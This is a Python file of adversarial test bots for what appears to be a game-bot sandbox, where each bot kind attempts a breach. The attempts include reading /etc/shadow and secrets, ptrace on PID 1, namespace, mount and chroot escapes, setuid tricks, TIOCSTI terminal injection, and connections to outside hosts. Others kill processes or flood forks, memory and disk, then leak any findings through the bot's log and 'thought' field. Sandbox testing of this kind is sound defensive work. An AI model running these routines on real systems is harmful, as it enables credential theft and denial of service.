"""Bots that want more than to play, over the line protocol: `stranger.py KIND`; standard library only.

What one finds it puts wherever somebody outside could see it: its log, its thoughts, the network, files.
"""

from __future__ import annotations

import ctypes
import json
import os
import resource
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterable
from contextlib import suppress

HOME = "/home/victim"
FOUND: list[str] = []
LIBC = ctypes.CDLL(None, use_errno=True)
PIDS = range(1, 400)
LAST = 0


def tell(text: object) -> None:
    """Bring something out, by its log and its thoughts."""
    words = text.decode("utf-8", "replace") if isinstance(text, bytes) else str(text)
    words = words[max(0, words.find("canary-")) :][:300]  # what it is after comes first
    FOUND.append(words)
    os.write(2, words.encode("utf-8", "replace") + b"\n")


def read(paths: Iterable[str]) -> None:
    for path in paths:
        with suppress(OSError), open(path, "rb") as file:
            tell(file.read(20_000))


def everything(top: str) -> None:
    large = ("usr", "proc", "sys", "nix", "dev")
    for folder, folders, files in os.walk(top):
        deep = folder.count("/") > 5 or "python" in folder
        folders[:] = [] if deep else [name for name in folders if name not in large]
        read(os.path.join(folder, name) for name in files[:50])


def connect(family: int, kind: int, address: object) -> None:
    with suppress(OSError), socket.socket(family, kind) as link:
        link.settimeout(0.3)
        link.connect(address)
        link.sendall(b"stranger")
        tell(link.recv(1000))


def to_all(action: Callable[[int], object]) -> None:
    for pid in PIDS:
        if pid != os.getpid():
            with suppress(OSError, ValueError):
                action(pid)


def write(*paths: str) -> None:
    for path in paths:
        with suppress(OSError), open(path, "w") as file:
            file.write("stranger was here")


def run(*words: str) -> None:
    import subprocess

    with suppress(OSError, subprocess.TimeoutExpired):
        tell(subprocess.run(words, capture_output=True, timeout=2).stdout)


def syscall(name: str, *values: object) -> None:
    with suppress(AttributeError):
        tell(getattr(LIBC, name)(*values))


def own_folder() -> str:
    return os.path.dirname(os.path.abspath(sys.argv[0]))


def traced(pid: int) -> None:
    LIBC.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE
    LIBC.ptrace(0x4207, pid, 0, 0)  # PTRACE_INTERRUPT


def forks(count: int) -> None:
    for _ in range(count):
        with suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                for number in range(3):
                    os.close(number)
                time.sleep(60)


def threads() -> None:
    import threading

    with suppress(RuntimeError):
        for _ in range(1000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def heap() -> None:
    kept = []
    with suppress(MemoryError):
        while len(kept) < 40:
            kept.append(bytearray(8_000_000))


def shared() -> None:
    import mmap

    with suppress(OSError, ValueError):
        found = mmap.mmap(-1, 64_000_000)
        for at in range(0, 64_000_000, 4096):
            found[at] = 1


def nameless() -> None:
    number = os.memfd_create("stranger")
    with suppress(OSError):
        for _ in range(100):
            os.write(number, b"x" * 1_000_000)


def fill(folder: str) -> None:
    with suppress(OSError):
        for part in range(4):
            with open(f"{folder}/fill{part}", "wb") as file:
                for _ in range(40):
                    file.write(b"x" * 1_000_000)


def many_files() -> None:
    for number in range(2000):
        with suppress(OSError):
            os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))


def deep() -> None:
    os.chdir("/tmp")
    for _ in range(1100):
        os.mkdir("d")
        os.chdir("d")


def descriptors() -> None:
    with suppress(OSError):
        for _ in range(5000):
            os.dup(0)


def all_descriptors() -> None:
    for number in range(3, 256):
        with suppress(OSError):
            os.write(number, b"stranger\n")
            tell(os.readlink(f"/proc/self/fd/{number}"))


def own_namespaces() -> None:
    for flag in (0x10000000, 0x20000000, 0x40000000, 0x00020000, 0x10020000):
        tell(LIBC.unshare(flag))
    everything(HOME)


def own_mounts() -> None:
    for place in ("/proc", "/tmp", "/"):
        tell(LIBC.umount2(place.encode(), 2))
    tell(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, b""))
    tell(LIBC.mount(b"/", b"/tmp", b"", 4096 | 16384, b""))
    tell(LIBC.mount(b"none", b"/usr", b"", 32 | 4096, b""))
    write("/usr/stranger", "/etc/stranger", "/stranger")


def out_by_chroot() -> None:
    with suppress(OSError):
        os.mkdir("/tmp/jail")
    with suppress(OSError):
        os.chroot("/tmp/jail")
    for _ in range(9):
        os.chdir("..")
    everything(".")


def setuid() -> None:
    for change in (os.setuid, os.seteuid, os.setgid):
        with suppress(OSError):
            change(0)
    with suppress(OSError):
        os.setgroups([0])
    run("su", "-c", "cat /home/victim/secret")
    run("mount", "-o", "remount,rw", "/")
    read(["/etc/shadow"])


def set_bits() -> None:
    with suppress(OSError):
        with open("/bin/cat", "rb") as source, open("/tmp/cat", "wb") as target:
            target.write(source.read())
        os.chmod("/tmp/cat", 0o6755)
        run("/tmp/cat", f"{HOME}/secret", "/etc/shadow")


def devices() -> None:
    for major, minor in ((1, 1), (254, 0), (8, 0)):
        with suppress(OSError):
            os.mknod(f"/tmp/device{major}", 0o60666, os.makedev(major, minor))
    read(["/tmp/device1", "/tmp/device8", "/tmp/device254", "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda"])


def keys() -> None:
    number = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine)
    found = LIBC.syscall(number, 10, -3, b"user", b"batllm-canary", 0) if number else -1
    if found >= 0:
        kept = ctypes.create_string_buffer(99)
        LIBC.syscall(number, 11, found, kept, 99)
        tell(kept.value)
    read(["/proc/keys", "/proc/key-users"])


def shared_memory() -> None:
    LIBC.shmat.restype = ctypes.c_void_p
    for key in range(4711, 4714):
        found = LIBC.shmget(key, 0, 0)
        place = LIBC.shmat(found, None, 0o10000) if found >= 0 else None
        if place and place != ctypes.c_void_p(-1).value:
            tell(ctypes.string_at(place, 40))


def terminal() -> None:
    import fcntl
    import termios

    for name in ("/dev/tty", "/dev/pts/0", "/dev/console", "/dev/ptmx", "/proc/self/fd/0"):
        with suppress(OSError):
            number = os.open(name, os.O_RDWR | os.O_NOCTTY)
            for letter in b"stranger\n":
                fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))


def links() -> None:
    for path in (HOME + "/secret", "/etc/shadow", "/proc/1/environ"):
        for place in ("/tmp/link", own_folder() + "/link"):
            with suppress(OSError):
                os.symlink(path, place)
                read([place])
            with suppress(OSError):
                os.link(path, place + "2")


def own_folder_away() -> None:
    folder = own_folder()
    with suppress(OSError):
        os.rename(folder, folder + "-away")
        os.symlink(HOME, folder)


def change_own_folder() -> None:
    folder = own_folder()
    for change in (lambda: os.chmod(folder, 0o777), lambda: os.utime(folder, (0, 0)), lambda: os.mkdir(folder + "/d")):
        with suppress(OSError):
            change()
    write(os.path.abspath(sys.argv[0]), folder + "/new.py")
    for name in os.listdir(folder):
        with suppress(OSError):
            os.unlink(f"{folder}/{name}")


def listen() -> None:
    import threading

    with suppress(OSError):
        server = socket.create_server(("0.0.0.0", 4321), backlog=9)
        threading.Thread(target=lambda: server.accept()[0].send(b"x"), daemon=True).start()
    with suppress(OSError):
        path = socket.socket(socket.AF_UNIX)
        path.bind(f"{HOME}/stranger.sock")


def interface_up() -> None:
    import fcntl
    import struct

    with suppress(OSError), socket.socket() as any_socket:
        fcntl.ioctl(any_socket, 0x8914, struct.pack("16sh14x", b"lo", 1))
    connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 7777))


def raw() -> None:
    for family, kind, number in ((socket.AF_INET, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 768)):
        with suppress(OSError), socket.socket(family, kind, number) as link:
            link.sendto(b"stranger" * 9, ("127.0.0.1", 0))


def names() -> None:
    for name in ("localhost", "example.com"):
        with suppress(OSError):
            tell(socket.getaddrinfo(name, 80))
    with suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(b"stranger", ("10.9.9.9", 7778))


def never(number: int, _frame: object) -> None:
    tell(f"signal {number}")


def deaf() -> None:
    for number in range(1, 65):
        with suppress(OSError, ValueError):
            signal.signal(number, never)
    forks(3)
    LIBC.prctl(1, 0, 0, 0, 0)


def first_process() -> None:
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        os.kill(1, number)
    traced(1)
    read(["/proc/1/environ", "/proc/1/maps"])
    for number in range(20):
        read([f"/proc/1/fd/{number}", f"/proc/1/root{HOME}/secret"]) if number > 2 else None


def flood(number: int) -> None:
    for _ in range(20 if number == 1 else 3):
        os.write(number, b"stranger\n" * 10_000)


def limits_off() -> None:
    for what in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        with suppress(OSError, ValueError):
            resource.setrlimit(what, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    with suppress(OSError):
        os.nice(-20)
    heap()
    threads()


def stop() -> None:
    os.kill(os.getpid(), signal.SIGSTOP)


def spin() -> None:
    while True:
        pass


def crash() -> None:
    ctypes.string_at(0)


def closed() -> None:
    for number in range(3):
        os.close(number)
    time.sleep(60)


def each(*actions: Callable[[], object]) -> Callable[[], None]:
    """Return what does one after the other, whatever comes of each."""

    def do() -> None:
        for action in actions:
            with suppress(OSError, ValueError):
                action()

    return do


KINDS: dict[str, Callable[[], object]] = {
    "home": lambda: everything(HOME),
    "environment": lambda: tell(dict(os.environ)),
    "all_environments": lambda: read(f"/proc/{pid}/{what}" for pid in PIDS for what in ("environ", "cmdline")),
    "all_roots": lambda: read(f"/proc/{pid}/{way}{HOME}/secret" for pid in PIDS for way in ("root", "cwd", "fd/3")),
    "everything": lambda: everything("/"),
    "shadow": lambda: read(["/etc/shadow", "/etc/passwd", "/etc/gshadow", "/etc/ssl/private/key.pem"]),
    "temporary": lambda: everything("/tmp"),
    "beside": lambda: everything(os.path.dirname(own_folder())),
    "devices": devices,
    "shared_memory": each(shared_memory, keys),
    "links": links,
    "first_process": first_process,
    "tcp": each(
        lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 7777)),
        lambda: connect(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 7777)),
    ),
    "udp": each(lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 7778)), names),
    "elsewhere": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("10.9.9.9", 7777)),
    "socket_file": each(
        lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, f"{HOME}/agent.sock"),
        lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "/tmp/agent.sock"),
    ),
    "abstract_socket": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, "\0agent"),
    "interface_up": interface_up,
    "raw": raw,
    "listen": listen,
    "wink_at_all": lambda: to_all(lambda pid: os.kill(pid, signal.SIGWINCH)),
    "terminate_all": lambda: to_all(lambda pid: os.kill(pid, signal.SIGTERM)),
    "kill_everybody": each(lambda: os.kill(-1, signal.SIGTERM), lambda: os.kill(-1, signal.SIGKILL)),
    "kill_parent": each(
        lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGHUP)
    ),
    "stop_all": lambda: to_all(lambda pid: os.kill(pid, signal.SIGSTOP)),
    "trace_all": lambda: to_all(traced),
    "limit_all": lambda: to_all(lambda pid: resource.prlimit(pid, resource.RLIMIT_MSGQUEUE, (7, 7))),
    "slow_all": lambda: to_all(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19)),
    "write_home": lambda: write(f"{HOME}/secret", f"{HOME}/new", f"{HOME}/.bashrc"),
    "write_everywhere": lambda: write(
        *(f"{top}/stranger" for top in ("", "/etc", "/usr", "/var/tmp", "/dev", "/sys", "/tmp", "/dev/shm"))
    ),
    "change_own_folder": change_own_folder,
    "own_folder_away": own_folder_away,
    "setuid": each(setuid, set_bits),
    "own_namespaces": own_namespaces,
    "own_mounts": own_mounts,
    "out_by_chroot": out_by_chroot,
    "terminal": terminal,
    "all_descriptors": each(all_descriptors, descriptors),
    "limits_off": limits_off,
    "forks": each(lambda: forks(60), lambda: time.sleep(60)),  # its guard counts a few times a second
    "deaf": deaf,
    "threads": threads,
    "heap": heap,
    "shared": each(shared, nameless),
    "fill": each(lambda: fill("/tmp"), lambda: fill("/dev/shm")),
    "deep": each(many_files, deep),
    "flood_log": lambda: flood(2),
    "flood_answers": lambda: flood(1),
    "stop": stop,
    "spin": spin,
    "crash": crash,
    "closed": closed,
    "good": lambda: None,
}
"""Fifty-two strangers, and one who only plays."""
TOGETHER = {
    "reads": (
        "home", "environment", "all_roots", "shadow", "temporary", "beside", "devices", "links", "first_process",
    ),
    "connects": (
        "tcp", "udp", "elsewhere", "socket_file", "abstract_socket", "shared_memory", "interface_up", "raw", "listen",
    ),
    "signals": (
        "wink_at_all", "terminate_all", "trace_all", "limit_all", "slow_all", "stop_all", "kill_parent",
        "kill_everybody",
    ),
    "writes": ("write_home", "write_everywhere", "change_own_folder", "own_folder_away"),
    "harms": (
        "home", "all_environments", "temporary", "tcp", "socket_file", "abstract_socket", "shared_memory",
        "wink_at_all", "write_home", "limit_all",
    ),
}  # fmt: skip
"""Strangers who do one after the other what costs them nothing themselves: starting a sandbox takes longest."""
KINDS |= {name: each(*(KINDS[kind] for kind in kinds)) for name, kinds in TOGETHER.items()}


def say(**values: object) -> None:
    sys.stdout.write(json.dumps(values) + "\n")
    sys.stdout.flush()


def main(kind: str) -> None:
    global LAST
    for line in sys.stdin:
        message = json.loads(line)
        if message["type"] == "hello":
            say(type="ready", name=kind, version="1")
        elif message["type"] == "decide":
            if not LAST:
                KINDS[kind]()
            LAST = message["id"]
            secrets_first = sorted(FOUND, key=lambda words: ("canary-" not in words, len(words)))  # before whole files
            say(type="play", id=LAST, command="C10", thought=" ".join(secrets_first)[:3000])
        elif message["type"] == "quit":
            break


if __name__ == "__main__":
    main(sys.argv[1])
